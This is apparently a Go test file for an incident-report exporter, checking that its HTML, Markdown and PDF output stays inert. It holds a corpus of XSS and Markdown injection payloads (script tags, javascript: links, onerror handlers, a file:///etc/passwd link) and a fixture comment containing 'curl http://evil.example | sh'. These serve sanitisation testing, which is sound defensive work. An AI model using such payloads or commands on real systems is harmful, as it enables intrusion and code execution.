package export

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"flag"
	"io"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"github.com/incidentkit/incidentkit/activity"
	"github.com/incidentkit/incidentkit/alert"
	"github.com/incidentkit/incidentkit/incident"
)

var update = flag.Bool("update", false, "rewrite testdata from what is written now")

type format struct {
	name  string
	write func(context.Context, io.Writer, Report) error
}

var formats = []format{
	{"html", WriteHTML},
	{"md", WriteMarkdown},
	{"json", func(_ context.Context, w io.Writer, r Report) error {
		e := json.NewEncoder(w)
		e.SetIndent("", "  ")
		return e.Encode(r)
	}},
}

func written(t testing.TB, f func(context.Context, io.Writer, Report) error, r Report) string {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, f(t.Context(), &b, r))
	return b.String()
}

// rich returns a report with everything that a report can have: caps, a comment with Markdown, one that was redacted,
// images, links and another time zone.
func rich(t testing.TB) Report {
	c, entries := sample(t, 12)
	c.Incident.Description = "First line of the description.\nSecond line."
	c.Incident.References = []incident.Reference{{System: "microsoftDefender", ID: "924565", URL: "https://security.example/incidents/924565"}}
	c.Alerts[0].URL = "https://security.example/alerts/0"
	c.Alerts[0].Evidence[0].Verdict = alert.NoThreatsFound
	c.Alerts[1].Title = "تنبيه: <script>alert(1)</script>"
	c.Alerts[2].Evidence = append(c.Alerts[2].Evidence, alert.Evidence{
		Entity: alert.URL{URL: "https://evil.example/a?b=c&d=<e>"}, Verdict: alert.NoThreatsFound, Roles: []alert.Role{alert.CommandAndControl},
	})
	at := start.Add(60 * time.Hour)
	file, err := base64.StdEncoding.DecodeString("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
	require.NoError(t, err)
	_, image, err := incident.Image{Name: "mail.png", Data: file}.Decode()
	require.NoError(t, err)
	by := activity.Actor{ID: "noor@contoso.example", Name: "Noor"}
	entries = append(entries,
		activity.Entry{Seq: 90, Time: at, Type: activity.Commented, Actor: by, Attachments: []activity.Attachment{image}, Text: "# Findings\n\n" +
			"The **mail** came from `192.0.2.1`, see [the gateway](https://gw.example/?q=1&amp;r=2) and ![the mail](attachment:mail.png).\n\n" +
			"1. revoke\n2. wipe\n\n> quoted\n\n```\ncurl http://evil.example | sh\n```\n\n| host | state |\n|---|---|\n| one | ~~up~~ down |\n\n<b>not bold</b>"},
		activity.Entry{Seq: 91, Time: at, Type: activity.Commented, Actor: by, Text: "a secret", Redacted: true, Attachments: []activity.Attachment{image}},
		activity.Entry{Seq: 92, Time: at, Type: activity.Commented, Actor: by, Text: "Said elsewhere.", Origin: "inc-0", Occurred: start})
	opts, err := (&Options{Location: time.FixedZone("Elsewhere", 5*3600+1800), MaxEvidence: 12}).withDefaults()
	require.NoError(t, err)
	r := collect(c, entries, opts)
	r.Images = map[string][]byte{image.SHA256: file}
	return r
}

// The files in testdata are what people get; look at them when they change. To rewrite them: go test ./export -run TestGolden -update
func TestGolden(t *testing.T) {
	for name, r := range map[string]Report{"rich": rich(t), "empty": {Sections: []Section{
		Overview, IncidentSummary, IncidentReport, AttackStory, Assets, Evidence, Alerts, Activity,
	}}} {
		for _, f := range formats {
			t.Run(name+"."+f.name, func(t *testing.T) {
				path := "testdata/" + name + "." + f.name
				got := written(t, f.write, r)
				if *update {
					require.NoError(t, os.WriteFile(path, []byte(got), 0o644))
				}
				want, err := os.ReadFile(path)
				require.NoError(t, err)
				assert.Equal(t, string(want), got)
				assert.True(t, utf8.ValidString(got))
			})
		}
	}
}

// texts calls f with every text of v and where it stands.
func texts(v reflect.Value, path string, f func(path string, s reflect.Value)) {
	switch v.Kind() {
	case reflect.String:
		f(path, v)
	case reflect.Struct:
		for n := range v.NumField() {
			if v.Type().Field(n).IsExported() {
				texts(v.Field(n), path+"."+v.Type().Field(n).Name, f)
			}
		}
	case reflect.Slice, reflect.Array:
		for n := range v.Len() {
			texts(v.Index(n), path, f)
		}
	case reflect.Interface:
		if !v.IsNil() {
			changed := reflect.New(v.Elem().Type()).Elem()
			changed.Set(v.Elem())
			texts(changed, path, f)
			v.Set(changed)
		}
	case reflect.Map:
		for _, key := range v.MapKeys() {
			changed := reflect.New(v.Type().Elem()).Elem()
			changed.Set(v.MapIndex(key))
			texts(changed, path, f)
			v.SetMapIndex(key, changed)
		}
	}
}

// corpus are attacks on those who show what others wrote: those of the OWASP cheat sheets and of Markdown. Peers that fell for such: P9.
var corpus = []string{
	`<script>document.title="run"</script>`, `</title><script>document.title="run"</script>`, `</style><script>document.title="run"</script>`,
	`"><img src=x onerror="document.title='run'">`, `' onmouseover='document.title="run"`, `<svg/onload=document.title="run">`,
	`<iframe srcdoc="<script>parent.document.title='run'</script>">`, `<img src="http://127.0.0.1:9/canary.png">`, `<a href="javascript:document.title='run'">x</a>`,
	`javascript:document.title="run"`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", `data:text/html,<script>alert(1)</script>`,
	`vbscript:msgbox(1)`, `[x](javascript:alert(1))`, `[x](java&#115;cript:alert(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `![x](http://127.0.0.1:9/canary.png)`,
	`![x](javascript:alert(1))`, "[x]: javascript:alert(1)\n\n[x]", `<javascript:alert(1)>`, `<https://x.example/"onclick=alert(1)>`, `[x](https://x.example "onclick=alert(1)")`,
	`[x](https://x.example/"onclick="alert(1))`, `<link rel=stylesheet href=http://127.0.0.1:9/canary.css>`, `<style>@import "http://127.0.0.1:9/canary.css";</style>`,
	`<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/canary">`, `<base href="http://127.0.0.1:9/">`, `<form action=http://127.0.0.1:9/><input type=submit>`,
	`<object data="http://127.0.0.1:9/canary"></object>`, `<math><mtext></mtext><script>alert(1)</script></math>`, `--><script>alert(1)</script>`, `{{.Style}}`, `{{"<b>"}}`,
	"```html\n<script>alert(1)</script>\n```", `<div style="background:url(http://127.0.0.1:9/canary)">x</div>`, `http://[::1`, `//evil.example/x`, `https:evil`, `file:///etc/passwd`,
	`<details open ontoggle=alert(1)>`, `<svg><use href="data:image/svg+xml,<svg/>"/></svg>`, `&lt;script&gt;`, `<ScRiPt>alert(1)</sCrIpT>`, `<script\x00>alert(1)</script>`,
}

var allowedTags = strings.Fields("html head meta title style body header p h1 h2 h3 h4 h5 ul ol li nav a main section footer dl div dt dd table caption colgroup " +
	"col thead tbody tr th td span bdi strong em code pre blockquote del br wbr hr figure figcaption img svg desc rect line text polygon")

var allowedAttributes = map[string]string{
	"html": "lang style", "body": "class", "meta": "charset http-equiv content name", "p": "class dir id", "h1": "dir", "h2": "id dir", "h3": "dir id", "h4": "dir id",
	"ul": "class", "ol": "class start", "li": "class", "nav": "aria-labelledby class", "header": "class", "footer": "class",
	"a": "href rel class", "section": "aria-labelledby", "div": "class dir id role aria-labelledby", "table": "aria-labelledby class", "col": "class", "dl": "class",
	"tr": "class id", "th": "scope class colspan", "td": "class colspan rowspan data-label", "bdi": "dir class", "span": "class aria-hidden", "code": "class",
	"figure": "id class", "figcaption": "dir", "img": "src alt width height class",
	"svg": "viewBox role aria-labelledby", "title": "id", "desc": "id", "rect": "class x y width height fill stroke stroke-width", "line": "class x1 y1 x2 y2 stroke stroke-width",
	"text": "class x y font-size font-weight text-anchor fill", "polygon": "class points fill",
}

// inert fails unless all that a document consists of is harmless, and returns its text.
func inert(t require.TestingT, document string) string {
	root, err := html.Parse(strings.NewReader(document))
	require.NoError(t, err)
	var b strings.Builder
	for n := range root.Descendants() {
		switch n.Type {
		case html.TextNode:
			if n.Parent.Data != "style" && n.Parent.Data != "title" {
				b.WriteString(n.Data)
			}
		case html.CommentNode:
			require.Fail(t, "a comment", n.Data)
		case html.ElementNode:
			require.Contains(t, allowedTags, n.Data)
			require.Contains(t, []string{"", "svg"}, n.Namespace)
			for _, a := range n.Attr {
				require.Contains(t, strings.Fields(allowedAttributes[n.Data]), a.Key, n.Data)
				if a.Key == "src" {
					require.Regexp(t, `^data:image/(png|jpeg|gif);base64,[A-Za-z0-9+/]+=*$`, a.Val)
				}
				if a.Key == "href" && !strings.HasPrefix(a.Val, "#") {
					require.Regexp(t, `^(?i:https?://|mailto:)`, a.Val)
					b.WriteString(address(a.Val))
				}
			}
		}
	}
	require.NotContains(t, b.String(), "\x00")
	return b.String()
}

// address returns a link's target as it was given.
func address(target string) string {
	if plain, err := url.PathUnescape(target); err == nil {
		return plain
	}
	return target
}

func render(t testing.TB, r Report) []byte {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, WritePDF(t.Context(), &b, r, nil))
	return b.Bytes()
}

// tool runs a program on a PDF. Without the program the test is skipped, except where CI says that
// nothing may be.
func tool(t *testing.T, file []byte, name string, args ...string) string {
	t.Helper()
	if _, err := exec.LookPath(name); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatalf("%s is needed: %v", name, err)
		}
		t.Skipf("%s is not installed", name)
	}
	path := filepath.Join(t.TempDir(), "report.pdf")
	require.NoError(t, os.WriteFile(path, file, 0o600))
	for i, a := range args {
		if a == "FILE" {
			args[i] = path
		}
	}
	out, err := exec.CommandContext(t.Context(), name, args...).CombinedOutput()
	require.NoError(t, err, "%s: %s", name, out)
	return string(out)
}

// text returns what a reader finds in a PDF, without any space, since lines are broken anywhere.
func text(t *testing.T, file []byte) string {
	return squeeze(tool(t, file, "pdftotext", "-raw", "FILE", "-"))
}

func squeeze(s string) string { return strings.Join(strings.Fields(s), "") }

// dueContext is done after it has been asked so many times.
type dueContext struct {
	context.Context
	left int
}

func (c *dueContext) Err() error {
	if c.left--; c.left < 0 {
		return context.DeadlineExceeded
	}
	return nil
}

type brokenWriter struct{ err error }

func (w brokenWriter) Write([]byte) (int, error) { return 0, w.err }

// commented returns a report of comments.
func commented(source ...string) Report {
	r := Report{Sections: []Section{Activity}, Generated: start}
	for _, s := range source {
		r.Activity = append(r.Activity, activity.Entry{Time: start, Actor: activity.Actor{ID: "mira", Name: "Mira"}, Type: activity.Commented, Text: s})
	}
	return r
}
